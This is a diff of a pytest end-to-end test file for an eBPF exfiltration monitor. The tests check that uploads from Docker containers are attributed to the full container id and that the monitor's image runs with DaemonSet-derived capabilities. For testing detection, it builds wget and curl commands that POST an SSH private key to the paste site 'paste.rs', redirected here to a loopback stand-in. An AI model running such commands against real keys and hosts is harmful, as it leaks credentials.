@@ -1,300 +1,248 @@
-"""End-to-end container tests: the monitor names the container an exfiltrating process runs in,
-and the monitor works from its own image with the DaemonSet's privileges (not privileged).
+"""Containers, end to end: an exfiltrating process in a Docker container is named by its full
+container id, and the monitor works from its own image started with deploy/daemonset.yaml's
+settings (capabilities, host PID namespace, read-only hostPath mounts; not privileged).
 
-Needs root, dockerd (scripts/docker-base-image starts it and imports the local images) and a
-built monitor (build/exfilwatch, or $EXFILWATCH_BIN). All traffic stays on loopback: the
-"text-storage site" paste.rs is a local HTTP server that containers reach through --network host
-and --add-host paste.rs:127.0.0.1.
+Root, a real kernel, dockerd (conftest starts it when it is not running) and two local images
+(scripts/docker-base-image --test, seconds). The "paste site" paste.rs is the harness's stand-in
+service on loopback: containers reach it through --network host and --add-host.
 """
 
-import http.server
-import json
-import os
-import queue
+import re
 import shutil
 import subprocess
-import threading
-import time
 from pathlib import Path
 
 import pytest
+import yaml
 
-REPO = Path(__file__).resolve().parents[2]
-BINARY = Path(os.environ.get("EXFILWATCH_BIN", REPO / "build" / "exfilwatch"))
-MONITOR_IMAGE = os.environ.get("EXFILWATCH_IMAGE", "exfilwatch:e2e")
-STARTUP_DEADLINE_S = 60
-DETECTION_DEADLINE_S = 30
+from harness import (ATTACKS, Monitor, alert_threshold, as_list, assert_alert,
+                     check_service_saw, execute, get, is_action, is_alert, paths, wait_until)
+from harness.config import HTTP_PORT, HTTPS_PORT
 
-# The capabilities and mounts of deploy/daemonset.yaml, as docker run flags. Docker 20.10
-# (Debian 12's docker.io) does not know CAP_BPF and CAP_PERFMON; SYS_ADMIN stands in for both
-# there (the kernel's bpf_capable() and perfmon_capable() accept it).
-DAEMONSET_CAPS = ["BPF", "PERFMON", "NET_ADMIN", "SYS_PTRACE", "DAC_READ_SEARCH"]
-OLD_DOCKER_CAPS = ["SYS_ADMIN", "NET_ADMIN", "SYS_PTRACE", "DAC_READ_SEARCH"]
-DAEMONSET_MOUNTS = ["/sys/kernel/btf", "/sys/kernel/tracing", "/sys/kernel/debug", "/sys/fs/cgroup"]
+DAEMONSET = paths.REPO / "deploy" / "daemonset.yaml"
+DETECTION_TIMEOUT_S = 30.0
+CONTAINER_TIMEOUT_S = 60
+PROBE_TIMEOUT_S = 10.0
+FULL_ID = re.compile(r"^[0-9a-f]{64}$")
+KEY_IN_CONTAINER = "/root/.ssh/id_ed25519"
 
-FAKE_KEY = (
-    "-----BEGIN OPENSSH PRIVATE KEY-----\n"
-    "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
-    "exfilwatch-e2e-fake-key-not-a-secret\n"
-    "-----END OPENSSH PRIVATE KEY-----\n"
-)
+# Docker < 23 (Debian 12's docker.io is 20.10) does not know CAP_BPF and CAP_PERFMON; the kernel's
+# bpf_capable() and perfmon_capable() accept CAP_SYS_ADMIN in their place.
+NEW_CAPS = ("BPF", "PERFMON")
+OLD_DOCKER_STAND_IN = "SYS_ADMIN"
 
 
 # ---------------------------------------------------------------- helpers
 
 
-def field(record, dotted):
-    """An ECS field whether the writer nests objects or uses dotted keys."""
-    if dotted in record:
-        return record[dotted]
-    node = record
-    for part in dotted.split("."):
-        if not isinstance(node, dict) or part not in node:
-            return None
-        node = node[part]
-    return node
+def docker(*args, timeout=CONTAINER_TIMEOUT_S, check=True):
+    done = subprocess.run(["docker", *args], capture_output=True, text=True, timeout=timeout)
+    if check and done.returncode != 0:
+        pytest.fail(f"docker {' '.join(args[:3])} ... failed ({done.returncode}): "
+                    f"{done.stderr.strip()[-2000:]}", pytrace=False)
+    return done
 
 
-class LineStream:
-    """Reads NDJSON lines from a pipe on a thread; waits for matching records with a deadline."""
-
-    def __init__(self, pipe, transcript):
-        self.lines = queue.Queue()
-        self.seen = []
-        self.transcript = transcript
-        self.thread = threading.Thread(target=self._pump, args=(pipe,), daemon=True)
-        self.thread.start()
-
-    def _pump(self, pipe):
-        for raw in iter(pipe.readline, b""):
-            self.lines.put(raw)
-        self.lines.put(None)
-
-    def wait_for(self, predicate, deadline_s, what):
-        for record in self.seen:
-            if predicate(record):
-                return record
-        end = time.monotonic() + deadline_s
-        while (left := end - time.monotonic()) > 0:
-            try:
-                raw = self.lines.get(timeout=min(left, 0.5))
-            except queue.Empty:
-                continue
-            if raw is None:
-                break
-            self.transcript.write(raw.decode("utf-8", "replace"))
-            try:
-                record = json.loads(raw)
-            except json.JSONDecodeError as err:
-                pytest.fail(f"monitor printed a line that is not JSON ({err}): {raw[:200]!r}")
-            self.seen.append(record)
-            if predicate(record):
-                return record
-        pytest.fail(f"no {what} within {deadline_s} s; {len(self.seen)} records seen, transcript: {self.transcript.name}")
-
-
-class UploadSink(http.server.ThreadingHTTPServer):
-    """The stand-in web service: accepts POST/PUT bodies on 127.0.0.1 and keeps them."""
-
-    def __init__(self):
-        self.bodies = []
-
-        sink = self
-
-        class Handler(http.server.BaseHTTPRequestHandler):
-            def _store(self):
-                length = int(self.headers.get("Content-Length", "0"))
-                sink.bodies.append((self.headers.get("Host"), self.rfile.read(length)))
-                self.send_response(200)
-                self.send_header("Content-Length", "17")
-                self.end_headers()
-                self.wfile.write(b"https://paste.rs\n")
-
-            do_POST = _store
-            do_PUT = _store
-
-            def log_message(self, *args):
-                pass
-
-        super().__init__(("127.0.0.1", 0), Handler)
-        self.port = self.server_address[1]
-        self.thread = threading.Thread(target=self.serve_forever, daemon=True)
-        self.thread.start()
-
-    def close(self):
-        self.shutdown()
-        self.server_close()
-
-
-def docker(*args, timeout=120, check=True):
-    result = subprocess.run(["docker", *args], capture_output=True, text=True, timeout=timeout)
-    if check and result.returncode != 0:
-        pytest.fail(f"docker {' '.join(args)} failed ({result.returncode}): {result.stderr.strip()}")
-    return result.stdout.strip()
-
-
-def is_started(record):
-    return field(record, "event.action") == "monitor-started"
-
-
-def is_alert(record):
-    return field(record, "event.kind") == "alert"
-
-
-# ---------------------------------------------------------------- fixtures
-
-
-@pytest.fixture(scope="module")
-def images():
-    if os.geteuid() != 0:
-        pytest.fail("the container tests need root (dockerd, BPF)")
-    if shutil.which("docker") is None:
-        pytest.fail("docker is not installed: run scripts/docker-base-image")
-    out = subprocess.run([str(REPO / "scripts" / "docker-base-image")], capture_output=True, text=True, timeout=1200)
-    if out.returncode != 0:
-        pytest.fail(f"scripts/docker-base-image failed: {out.stderr}")
-    busybox, build_base = out.stdout.split()
-    return {"busybox": busybox, "build": build_base}
-
-
-@pytest.fixture
-def sink():
-    server = UploadSink()
-    yield server
-    server.close()
-
-
-@pytest.fixture
-def host_monitor(tmp_path):
-    """build/exfilwatch run --events all, with its stdout parsed."""
-    if not BINARY.is_file():
-        pytest.fail(f"{BINARY} does not exist: build the monitor first (make)")
-    transcript = open(tmp_path / "monitor.ndjson", "w")
-    stderr = open(tmp_path / "monitor.stderr", "w")
-    proc = subprocess.Popen(
-        [str(BINARY), "run", "--events", "all", "--duration", "120"],
-        stdout=subprocess.PIPE, stderr=stderr,
-    )
-    stream = LineStream(proc.stdout, transcript)
+def run_uploader(busybox, fake_home):
+    """A busybox container that reads the fake HOME's SSH key (mounted read-only, as a secret
+    would be) and POSTs it to paste.rs; returns the full id `docker run -d` printed, after the
+    container exited 0 and was removed."""
+    key_dir = fake_home.path / ".ssh"
+    script = (f"wget -q -O /dev/null --post-file={KEY_IN_CONTAINER} "
+              f"http://paste.rs:{HTTP_PORT}/upload")
+    container_id = docker("run", "-d", "--network", "host", "--add-host", "paste.rs:127.0.0.1",
+                          "-v", f"{key_dir}:/root/.ssh:ro", busybox, "sh", "-c",
+                          script).stdout.strip()
     try:
-        stream.wait_for(is_started, STARTUP_DEADLINE_S, "monitor-started record")
-        yield stream
+        assert FULL_ID.match(container_id), f"docker run -d printed {container_id!r}"
+        status = docker("wait", container_id).stdout.strip()
+        if status != "0":
+            logs = docker("logs", container_id, check=False)
+            pytest.fail(f"the uploading container exited {status}: {logs.stdout}{logs.stderr}",
+                        pytrace=False)
     finally:
-        proc.terminate()
+        docker("rm", "-f", container_id, check=False)
+    return container_id
+
+
+def check_upload_arrived(standin, fake_home):
+    size = (fake_home.path / ".ssh" / "id_ed25519").stat().st_size
+    standin.wait_for_request(
+        lambda r: r.get("host", "").startswith("paste.rs") and r.get("body_bytes") == size,
+        15.0, f"the container's {size}-byte POST to paste.rs")
+
+
+def wget_exec_in(container_id):
+    return is_action("exec", {"container.id": container_id,
+                              "process.args": lambda a: bool(a) and a[0] == "wget"})
+
+
+def alert_for(container_id):
+    return lambda r: is_alert(r) and get(r, "container.id") == container_id
+
+
+def check_container_alert(alert, container_id):
+    """The alert names the container exactly and scores the upload as the paste-site T1567.003."""
+    assert get(alert, "container.id") == container_id
+    assert "T1567.003" in [str(v) for v in as_list(get(alert, "threat.technique.subtechnique.id"))]
+    assert get(alert, "event.risk_score") >= alert_threshold()
+    assert get(alert, "process.args")[0] == "wget"
+    signals = {s["name"]: s for s in get(alert, "exfilwatch.signals")}
+    assert "in-container" in signals, sorted(signals)
+    assert signals["in-container"]["evidence"] == container_id[:12]
+
+
+def daemonset_container():
+    """deploy/daemonset.yaml's pod spec and its (only) container."""
+    with open(DAEMONSET) as handle:
+        documents = [d for d in yaml.safe_load_all(handle) if d]
+    daemonsets = [d for d in documents if d.get("kind") == "DaemonSet"]
+    assert len(daemonsets) == 1, f"{DAEMONSET}: want one DaemonSet, found {len(daemonsets)}"
+    pod = daemonsets[0]["spec"]["template"]["spec"]
+    assert len(pod["containers"]) == 1
+    return pod, pod["containers"][0]
+
+
+def daemonset_docker_args(old_docker):
+    """`docker run` flags equivalent to the DaemonSet's pod: every capability, mount and
+    security setting comes from the manifest, so the test runs what the cluster would."""
+    pod, container = daemonset_container()
+    security = container["securityContext"]
+    assert not security.get("privileged"), "the DaemonSet must not be privileged"
+    args = []
+    if pod.get("hostPID"):
+        args += ["--pid", "host"]
+    if pod.get("hostNetwork"):
+        args += ["--network", "host"]
+    user = f"{security.get('runAsUser', 0)}:{security.get('runAsGroup', 0)}"
+    args += ["--user", user]
+    if security.get("readOnlyRootFilesystem"):
+        args.append("--read-only")
+    if security.get("allowPrivilegeEscalation") is False:
+        args += ["--security-opt", "no-new-privileges"]
+    if security.get("seccompProfile", {}).get("type") == "Unconfined":
+        args += ["--security-opt", "seccomp=unconfined"]
+    for cap in security["capabilities"].get("drop", []):
+        args += ["--cap-drop", cap]
+    added = list(security["capabilities"].get("add", []))
+    if old_docker:
+        added = [c for c in added if c not in NEW_CAPS] + [OLD_DOCKER_STAND_IN]
+    for cap in added:
+        args += ["--cap-add", cap]
+    volumes = {v["name"]: v for v in pod["volumes"]}
+    for mount in container["volumeMounts"]:
+        volume = volumes[mount["name"]]
+        if "hostPath" in volume:
+            mode = ":ro" if mount.get("readOnly") else ""
+            args += ["-v", f"{volume['hostPath']['path']}:{mount['mountPath']}{mode}"]
+        elif "emptyDir" in volume:
+            args += ["--tmpfs", mount["mountPath"]]
+        elif volume.get("configMap", {}).get("optional"):
+            continue  # the custom-rules ConfigMap: optional, absent by default
+        else:
+            pytest.fail(f"no docker equivalent for volume {volume}", pytrace=False)
+    return args, list(container["args"])
+
+
+def docker_knows_new_caps(busybox):
+    """False on Docker < 23, which refuses `--cap-add BPF` ("unknown capability")."""
+    done = docker("run", "--rm", "--cap-add", "BPF", "--cap-add", "PERFMON", busybox, "true",
+                  check=False)
+    if done.returncode == 0:
+        return True
+    if "unknown capability" in done.stderr.lower():
+        return False
+    pytest.fail(f"docker run --cap-add BPF failed for another reason: {done.stderr}",
+                pytrace=False)
+
+
+class ContainerMonitor(Monitor):
+    """The monitor image under `docker run` in the foreground: its stdout is the NDJSON stream,
+    and SIGINT reaches the monitor through docker's signal proxy, so the harness's start, wait,
+    stop (exit 0, monitor-stopped) and schema validation apply unchanged."""
+
+    def __init__(self, workdir, image, docker_args, monitor_args, name):
+        super().__init__(workdir, binary=Path(shutil.which("docker")), start_timeout=60,
+                         stop_timeout=40, name="container-monitor")
+        self.container_name = name
+        self.argv = [str(self.binary), "run", "--rm", "--name", name, *docker_args, image,
+                     *monitor_args]
+
+    def start(self):
         try:
-            proc.wait(timeout=20)
-        except subprocess.TimeoutExpired:
-            proc.kill()
-            proc.wait()
-        transcript.close()
-        stderr.close()
+            return super().start()
+        except BaseException:
+            self._remove()
+            raise
 
+    def stop(self):
+        try:
+            return super().stop()
+        finally:
+            self._remove()
 
-@pytest.fixture(scope="module")
-def monitor_image(images):
-    """The deploy/Dockerfile image, built offline from the local build-base image."""
-    if not BINARY.is_file():
-        pytest.fail(f"{BINARY} does not exist: the image build needs a monitor that builds (make)")
-    build = subprocess.run(
-        ["docker", "build", "--build-arg", f"BASE={images['build']}", "-f", "deploy/Dockerfile",
-         "-t", MONITOR_IMAGE, "."],
-        cwd=REPO, capture_output=True, text=True, timeout=1800,
-    )
-    if build.returncode != 0:
-        pytest.fail(f"docker build failed:\n{build.stdout[-4000:]}\n{build.stderr[-4000:]}")
-    return MONITOR_IMAGE
+    def _remove(self):
+        subprocess.run(["docker", "rm", "-f", self.container_name], capture_output=True,
+                       timeout=CONTAINER_TIMEOUT_S)
 
 
 # ---------------------------------------------------------------- tests
 
 
-def run_uploading_container(busybox, port, extra_script=""):
-    """Starts a busybox container that writes a fake SSH key and POSTs it to paste.rs; returns its full ID."""
-    script = (
-        "mkdir -p /root/.ssh && cat > /root/.ssh/id_rsa <<'EOF'\n" + FAKE_KEY + "EOF\n"
-        f"wget -q -O /dev/null --post-file=/root/.ssh/id_rsa http://paste.rs:{port}/\n" + extra_script
-    )
-    short = docker("run", "-d", "--network", "host", "--add-host", "paste.rs:127.0.0.1", busybox, "sh", "-c", script)
-    full = docker("inspect", "-f", "{{.Id}}", short)
-    assert len(full) == 64 and full.startswith(short[:12])
-    return full
+def test_container_upload_alert_carries_full_container_id(images, standin, fake_home,
+                                                          host_monitor):
+    """Issue 6: `docker run` of a busybox container that uploads a key gives an alert whose
+    container.id is the container's full id; host processes stay without one."""
+    container_id = run_uploader(images["busybox"], fake_home)
+    check_upload_arrived(standin, fake_home)
+
+    exec_record = host_monitor.wait_for(wget_exec_in(container_id), DETECTION_TIMEOUT_S,
+                                        f"the exec of wget in container {container_id[:12]}")
+    assert get(exec_record, "process.executable") == "/bin/busybox"
+    alert = host_monitor.wait_for(alert_for(container_id), DETECTION_TIMEOUT_S,
+                                  f"an alert for container {container_id[:12]}")
+    check_container_alert(alert, container_id)
+    assert get(alert, "process.pid") == get(exec_record, "process.pid")
+
+    docker_cli = host_monitor.wait_for(
+        is_action("exec", {"process.args": lambda a: bool(a) and a[:2] == ["docker", "run"]}),
+        DETECTION_TIMEOUT_S, "the exec of the host's `docker run`")
+    assert get(docker_cli, "container.id") is None, "a host process was given a container id"
+    host_monitor.stop()  # exit 0, monitor-stopped, every record valid against schemas/
 
 
-def finish_container(container_id):
-    status = docker("wait", container_id, timeout=60)
-    logs = subprocess.run(["docker", "logs", container_id], capture_output=True, text=True).stderr
-    docker("rm", "-f", container_id, check=False)
-    assert status == "0", f"the uploading container failed ({status}): {logs}"
+def test_monitor_image_with_daemonset_settings(images, standin, fake_home, tmp_path):
+    """Deliverable 5: the monitor in its own image, started with the DaemonSet's capabilities
+    and mounts (not --privileged), attaches every hook, detects a host-side scenario and names
+    a container's upload by its full id; its liveness probe passes."""
+    old_docker = not docker_knows_new_caps(images["busybox"])
+    docker_args, monitor_args = daemonset_docker_args(old_docker)
+    assert "--privileged" not in docker_args
+    name = f"exfilwatch-test-{tmp_path.name}"
+    monitor = ContainerMonitor(tmp_path / "monitor", images["monitor"], docker_args,
+                               [*monitor_args, "--events", "all"], name)
+    with monitor:
+        hooks = get(monitor.started_record, "exfilwatch.hooks")
+        assert hooks["degraded"] == [], f"hooks degraded in the container: {hooks['degraded']}"
+        assert hooks["attached"], "no hook attached"
 
+        # The probe passes once the ring-buffer loop has touched its health file (every second).
+        _, container = daemonset_container()
+        probe = container["livenessProbe"]["exec"]["command"]
+        wait_until(lambda: docker("exec", name, *probe, check=False).returncode == 0,
+                   PROBE_TIMEOUT_S, f"the liveness probe ({' '.join(probe)}) to pass")
 
-def test_container_process_telemetry_carries_container_id(images, sink, host_monitor):
-    container_id = run_uploading_container(images["busybox"], sink.port)
-    finish_container(container_id)
-    assert any(FAKE_KEY.encode() in body for _, body in sink.bodies), "the upload did not reach the stand-in service"
+        scenario = ATTACKS[0]  # curl uploads ~/.netrc to a Slack webhook, on the host
+        execute(scenario, fake_home, tmp_path, HTTPS_PORT)
+        check_service_saw(scenario, standin)
+        host_alert = monitor.wait_for(
+            lambda r: is_alert(r) and get(r, "destination.domain") == scenario.domain,
+            DETECTION_TIMEOUT_S, f"an alert for the host's upload to {scenario.domain}")
+        assert get(host_alert, "container.id") is None, "a host process was given a container id"
 
-    exec_record = host_monitor.wait_for(
-        lambda r: field(r, "event.action") == "exec" and field(r, "process.name") == "wget",
-        DETECTION_DEADLINE_S, "exec record for the container's wget")
-    assert field(exec_record, "container.id") == container_id
-
-
-def test_container_upload_alert_names_container(images, sink, host_monitor):
-    container_id = run_uploading_container(images["busybox"], sink.port)
-    finish_container(container_id)
-    assert sink.bodies, "the upload did not reach the stand-in service"
-
-    alert = host_monitor.wait_for(
-        lambda r: is_alert(r) and field(r, "container.id") == container_id,
-        DETECTION_DEADLINE_S, f"alert for container {container_id[:12]}")
-    assert field(alert, "threat.technique.id") == "T1567"
-    assert field(alert, "event.risk_score") is not None
-
-
-def test_monitor_image_detects_host_upload(images, monitor_image, sink, tmp_path):
-    """The monitor in its own image, with the DaemonSet's capabilities and mounts, sees a host process."""
-    def start(caps):
-        args = ["run", "-d", "--pid", "host", "--network", "host", "--cgroupns", "host",
-                "--cap-drop", "ALL", "--security-opt", "seccomp=unconfined", "--read-only",
-                "--tmpfs", "/run/exfilwatch"]
-        for cap in caps:
-            args += ["--cap-add", cap]
-        for mount in DAEMONSET_MOUNTS:
-            args += ["-v", f"{mount}:{mount}:ro"]
-        return subprocess.run(["docker", *args, monitor_image, "run", "--events", "all", "--duration", "120"],
-                              capture_output=True, text=True, timeout=120)
-
-    started = start(DAEMONSET_CAPS)
-    if started.returncode != 0 and "unknown capability" in started.stderr:
-        started = start(OLD_DOCKER_CAPS)
-    assert started.returncode == 0, f"docker run of the monitor image failed: {started.stderr}"
-    monitor = started.stdout.strip()
-    logs = subprocess.Popen(["docker", "logs", "-f", monitor], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
-    transcript = open(tmp_path / "monitor.ndjson", "w")
-    try:
-        stream = LineStream(logs.stdout, transcript)
-        stream.wait_for(is_started, STARTUP_DEADLINE_S, "monitor-started record from the container")
-
-        home = tmp_path / "home"
-        (home / ".ssh").mkdir(parents=True)
-        key = home / ".ssh" / "id_rsa"
-        key.write_text(FAKE_KEY)
-        upload = subprocess.run(
-            ["curl", "-sS", "--resolve", f"paste.rs:{sink.port}:127.0.0.1", "--data-binary", f"@{key}",
-             f"http://paste.rs:{sink.port}/"],
-            capture_output=True, text=True, timeout=30, env={**os.environ, "HOME": str(home)})
-        assert upload.returncode == 0, upload.stderr
-
-        exec_record = stream.wait_for(
-            lambda r: field(r, "event.action") == "exec" and field(r, "process.name") == "curl",
-            DETECTION_DEADLINE_S, "exec record for the host's curl")
-        curl_pid = field(exec_record, "process.pid")
-        assert not field(exec_record, "container.id"), "a host process was given a container ID"
-
-        alert = stream.wait_for(
-            lambda r: is_alert(r) and field(r, "process.pid") == curl_pid,
-            DETECTION_DEADLINE_S, "alert for the host's curl upload")
-        assert field(alert, "threat.technique.id") == "T1567"
-    finally:
-        docker("rm", "-f", monitor, check=False)
-        logs.wait(timeout=20)
-        transcript.close()
+        container_id = run_uploader(images["busybox"], fake_home)
+        check_upload_arrived(standin, fake_home)
+        check_container_alert(monitor.wait_for(alert_for(container_id), DETECTION_TIMEOUT_S,
+                                               f"an alert for container {container_id[:12]}"),
+                              container_id)
+    assert_alert(monitor.records(), scenario.technique)
